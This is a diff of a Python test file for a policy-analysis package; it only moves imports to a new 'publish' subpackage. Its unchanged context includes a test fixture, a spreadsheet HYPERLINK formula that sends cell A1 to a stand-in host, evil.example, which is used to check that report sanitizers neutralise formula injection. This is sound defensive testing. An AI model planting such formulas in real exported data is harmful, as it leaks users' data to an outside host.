@@ -16,7 +16,7 @@ import pytest
 import yaml
 
 from jnpolicy_analysis.cli import main
-from jnpolicy_analysis.presentation import neutralise_formula, sanitize_html
+from jnpolicy_analysis.publish.presentation import neutralise_formula, sanitize_html
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 PAYLOAD = (
@@ -208,7 +208,7 @@ def test_table_cells_are_escaped():
 
     import pandas as pd
 
-    from jnpolicy_analysis.notebook import NotebookRun, ReportOutput
+    from jnpolicy_analysis.publish.notebook import NotebookRun, ReportOutput
 
     df = pd.DataFrame({"资金来源": [PAYLOAD + "市级"], "成本（万元）": [1.5]})
     page = NotebookRun.show(SimpleNamespace(out=ReportOutput(None, "t")), df).to_html()
@@ -268,7 +268,7 @@ def test_other_values_are_kept(value):
 def test_a_figure_file_is_kept_only_when_it_is_the_runs_own_png(tmp_path, file, kept):
     import nbformat
 
-    from jnpolicy_analysis.reporting import figure_files
+    from jnpolicy_analysis.publish.runner import figure_files
 
     (tmp_path / "figures").mkdir()
     (tmp_path / "figures" / "cost_fan.png").write_bytes(b"\x89PNG")
